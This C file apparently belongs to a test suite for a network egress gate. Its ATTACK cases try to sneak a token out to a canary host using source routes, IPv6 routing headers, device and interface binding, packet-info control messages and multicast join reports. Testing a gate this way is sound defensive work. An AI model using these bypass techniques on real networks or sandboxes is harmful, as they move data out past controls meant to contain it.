// Socket options that change which way an allowed packet leaves, or make the kernel itself send.
#include "attack.h"
#include <linux/seg6.h>

// A loose source route (RFC 791) whose first hop is the canary. The kernel puts the destination last.
static size_t source_route(uint8_t *out)
{
    struct sockaddr_in hop = v4("WIRE4", "PORT");
    struct sockaddr_in last = v4("PASSED4", "PORT");
    out[0] = 131;
    out[1] = 11;
    out[2] = 4;
    memcpy(out + 3, &hop.sin_addr, 4);
    memcpy(out + 7, &last.sin_addr, 4);
    out[11] = 0;
    return 12;
}

ATTACK(source_route_tcp)
{
    struct sockaddr_in to = v4("PASSED4", "PORT");
    uint8_t options[12];
    int fd = tcp4();
    must(setsockopt(fd, IPPROTO_IP, IP_OPTIONS, options, (socklen_t)source_route(options)), "setsockopt");
    // The canary answers for itself, not for the last hop: its seeing the SYN is enough.
    connect_to(fd, &to, sizeof to);
    send_token(fd);
    sent();
}

ATTACK(source_route_udp)
{
    struct sockaddr_in to = v4("PASSED4", "PORT");
    uint8_t options[12];
    int fd = udp4();
    connect_to(fd, &to, sizeof to);
    must(setsockopt(fd, IPPROTO_IP, IP_OPTIONS, options, (socklen_t)source_route(options)), "setsockopt");
    send_token(fd);
    sent();
}

static void send_with(int fd, void *to, socklen_t length, int level, int type, const void *data, size_t size)
{
    char control[CMSG_SPACE(64)] = {0};
    struct iovec payload = {(void *)token(), strlen(token())};
    struct msghdr message = {.msg_name = to,
                             .msg_namelen = length,
                             .msg_iov = &payload,
                             .msg_iovlen = 1,
                             .msg_control = control,
                             .msg_controllen = CMSG_SPACE(size)};
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = level;
    header->cmsg_type = type;
    header->cmsg_len = CMSG_LEN(size);
    memcpy(CMSG_DATA(header), data, size);
    must((int)sendmsg(fd, &message, 0), "sendmsg");
    sent();
}

ATTACK(source_route_ancillary)
{
    struct sockaddr_in to = v4("PASSED4", "PORT");
    uint8_t options[12];
    size_t length = source_route(options);
    send_with(udp4(), &to, sizeof to, IPPROTO_IP, IP_RETOPTS, options, length);
}

// Two fragments, the token in the second, which has the route but no ports.
ATTACK(source_route_fragments)
{
    struct sockaddr_in to = v4("PASSED4", "PORT");
    uint8_t options[12];
    char big[2000] = {0}, control[CMSG_SPACE(12)] = {0};
    size_t length = source_route(options);
    int fd = udp4(), whole = IP_PMTUDISC_DONT;
    must(setsockopt(fd, IPPROTO_IP, IP_MTU_DISCOVER, &whole, sizeof whole), "setsockopt");
    memcpy(big + sizeof big - strlen(token()), token(), strlen(token()));
    struct iovec payload = {big, sizeof big};
    struct msghdr message = {.msg_name = &to,
                             .msg_namelen = sizeof to,
                             .msg_iov = &payload,
                             .msg_iovlen = 1,
                             .msg_control = control,
                             .msg_controllen = sizeof control};
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = IPPROTO_IP;
    header->cmsg_type = IP_RETOPTS;
    header->cmsg_len = CMSG_LEN(length);
    memcpy(CMSG_DATA(header), options, length);
    must((int)sendmsg(fd, &message, 0), "sendmsg");
    sent();
}

// A segment routing header (RFC 8754) whose first segment is the canary, and whose last the allowed destination.
static size_t routing_header(uint8_t *out)
{
    struct sockaddr_in6 hop = v6("WIRE6", "PORT"), last = v6("PASSED6", "PORT");
    struct ipv6_sr_hdr *header = (void *)out;
    memset(out, 0, 40);
    header->hdrlen = 4;
    header->type = 4;
    header->segments_left = 1;
    header->first_segment = 1;
    memcpy(&header->segments[0], &last.sin6_addr, 16);
    memcpy(&header->segments[1], &hop.sin6_addr, 16);
    return 40;
}

ATTACK(routing_header_tcp)
{
    struct sockaddr_in6 to = v6("PASSED6", "PORT");
    uint8_t header[40];
    int fd = tcp6();
    must(setsockopt(fd, IPPROTO_IPV6, IPV6_RTHDR, header, (socklen_t)routing_header(header)), "setsockopt");
    connect_to(fd, &to, sizeof to);
    send_token(fd);
    sent();
}

ATTACK(routing_header_ancillary)
{
    // As ancillary data only the one of Mobile IPv6 (RFC 6275) is taken, whose address is where it goes first.
    struct sockaddr_in6 to = v6("PASSED6", "PORT"), hop = v6("WIRE6", "PORT");
    uint8_t header[24] = {0, 2, 2, 1};
    memcpy(header + 8, &hop.sin6_addr, 16);
    send_with(udp6(), &to, sizeof to, IPPROTO_IPV6, IPV6_RTHDR, header, sizeof header);
}

static void bind_to_device(int fd)
{
    const char *name = setting("INTERFACE");
    must(setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, name, (socklen_t)strlen(name)), "bindtodevice");
}

// The redirected connection asks for the gate's loopback address on the wire, where a neighbour answers.
ATTACK(device_before_connect)
{
    struct sockaddr_in to = v4("DECLARED4", "DECLARED_PORT");
    int fd = tcp4();
    bind_to_device(fd);
    connect_to(fd, &to, sizeof to);
    send_token(fd);
    sent();
}

// A connection on loopback that was allowed is moved to the wire.
ATTACK(device_after_connect)
{
    struct sockaddr_in to = v4("LO4", "PASSED_PORT");
    // From an address that may show itself on the wire.
    struct sockaddr_in from = v4("NEAR4", "PORT");
    int fd = tcp4();
    from.sin_port = 0;
    must(bind(fd, (void *)&from, sizeof from), "bind");
    connect_to(fd, &to, sizeof to);
    bind_to_device(fd);
    send_token(fd);
    sent();
}

ATTACK(device_udp)
{
    struct sockaddr_in to = v4("LO4", "PASSED_PORT");
    int fd = udp4();
    bind_to_device(fd);
    send_token_to(fd, &to, sizeof to);
    sent();
}

ATTACK(device_by_index)
{
    struct sockaddr_in to = v4("LO4", "PASSED_PORT");
    int fd = udp4(), index = interface();
    must(setsockopt(fd, SOL_SOCKET, 62 /* SO_BINDTOIFINDEX */, &index, sizeof index), "setsockopt");
    send_token_to(fd, &to, sizeof to);
    sent();
}

ATTACK(unicast_interface)
{
    struct sockaddr_in to = v4("LO4", "PASSED_PORT");
    int fd = udp4();
    uint32_t index = htonl((uint32_t)interface());
    must(setsockopt(fd, IPPROTO_IP, 50 /* IP_UNICAST_IF */, &index, sizeof index), "setsockopt");
    send_token_to(fd, &to, sizeof to);
    sent();
}

ATTACK(packet_info)
{
    struct sockaddr_in to = v4("LO4", "PASSED_PORT");
    struct in_pktinfo info = {.ipi_ifindex = interface()};
    send_with(udp4(), &to, sizeof to, IPPROTO_IP, IP_PKTINFO, &info, sizeof info);
}

ATTACK(packet_info_v6)
{
    struct sockaddr_in6 to = mapped("LO4", "PASSED_PORT");
    struct in6_pktinfo info = {.ipi6_ifindex = (unsigned)interface()};
    memset(info.ipi6_addr.s6_addr + 10, 0xff, 2);
    send_with(udp6(), &to, sizeof to, IPPROTO_IPV6, IPV6_PKTINFO, &info, sizeof info);
}

// A membership report carries the group's address, bytes of the sender's choice. GROUP4 and GROUP6 hold the token.
ATTACK(igmp_join)
{
    struct ip_mreqn join = {.imr_ifindex = interface()};
    int fd = udp4();
    inet_pton(AF_INET, setting("GROUP4"), &join.imr_multiaddr);
    must(setsockopt(fd, IPPROTO_IP, IP_ADD_MEMBERSHIP, &join, sizeof join), "setsockopt");
    poll(NULL, 0, 300);
    sent();
}

ATTACK(igmp_join_any_family)
{
    struct group_req join = {.gr_interface = (uint32_t)interface()};
    struct sockaddr_in *group = (void *)&join.gr_group;
    int fd = udp4();
    group->sin_family = AF_INET;
    inet_pton(AF_INET, setting("GROUP4"), &group->sin_addr);
    must(setsockopt(fd, IPPROTO_IP, MCAST_JOIN_GROUP, &join, sizeof join), "setsockopt");
    poll(NULL, 0, 300);
    sent();
}

ATTACK(mld_join)
{
    struct ipv6_mreq join = {.ipv6mr_interface = (unsigned)interface()};
    int fd = udp6();
    inet_pton(AF_INET6, setting("GROUP6"), &join.ipv6mr_multiaddr);
    must(setsockopt(fd, IPPROTO_IPV6, IPV6_JOIN_GROUP, &join, sizeof join), "setsockopt");
    poll(NULL, 0, 300);
    sent();
}
